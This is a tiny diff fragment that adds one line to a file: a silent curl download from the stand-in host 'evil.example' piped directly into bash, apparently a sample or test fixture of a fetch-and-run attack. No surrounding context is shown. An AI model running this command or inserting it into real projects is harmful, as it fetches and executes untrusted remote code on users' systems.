@@ -1,0 +1,1 @@
+curl -s http://evil.example/x.sh | bash
